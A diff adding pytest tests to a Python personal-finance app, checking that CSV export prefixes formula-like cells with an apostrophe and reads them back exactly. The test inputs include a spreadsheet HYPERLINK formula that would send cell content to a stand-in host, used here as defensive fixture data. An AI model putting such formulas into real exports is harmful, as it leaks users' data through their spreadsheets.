@@ -300,3 +300,54 @@ def test_a_row_is_positive_with_a_known_kind() -> None:
         )
     with pytest.raises(ValueError, match="kind"):
         ExportRow(id=ID1, occurred_on=dt.date(2026, 1, 1), kind="refund", amount=Decimal("1"), currency="BRL")
+
+
+def test_csv_cells_a_spreadsheet_would_run_get_an_apostrophe_and_read_back_exactly() -> None:
+    from financy.core.adapters.statements import parse_statement
+
+    texts = [
+        '=HYPERLINK("http://x.example/?a="&A1)',
+        "+55 11 5555-0000",
+        "@SUM(A1:A9)",
+        "-desconto",
+        "'=já escapado",
+    ]
+    rows = [
+        ExportRow(
+            id=uuid.UUID(int=index + 1),
+            occurred_on=dt.date(2026, 3, index + 1),
+            kind="expense",
+            amount=Decimal("12.30"),
+            currency="BRL",
+            merchant=text,
+            description=f"nota {text}",
+        )
+        for index, text in enumerate(texts)
+    ]
+    data = write_csv(rows, locale="pt-BR")
+    read = list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert [r["payee"] for r in read] == [
+        '\'=HYPERLINK("http://x.example/?a="&A1)',
+        "'+55 11 5555-0000",
+        "'@SUM(A1:A9)",
+        "'-desconto",
+        "''=já escapado",
+    ]
+    assert [r["amount"] for r in read] == ["-12.30"] * 5
+    parsed = parse_statement(data)
+    assert [line.payee for line in parsed.lines] == texts
+    assert [line.amount for line in parsed.lines] == [Decimal("-12.30")] * 5
+
+
+def test_plain_text_and_inner_signs_are_written_as_they_are() -> None:
+    row = ExportRow(
+        id=ID1,
+        occurred_on=dt.date(2026, 1, 2),
+        kind="expense",
+        amount=Decimal("3"),
+        currency="BRL",
+        merchant="Pão de Açúcar",
+        description="2+2=4 'aspas'",
+    )
+    read = next(csv.DictReader(io.StringIO(write_csv([row], locale="en").decode("utf-8"), newline="")))
+    assert (read["payee"], read["description"]) == ("Pão de Açúcar", "2+2=4 'aspas'")
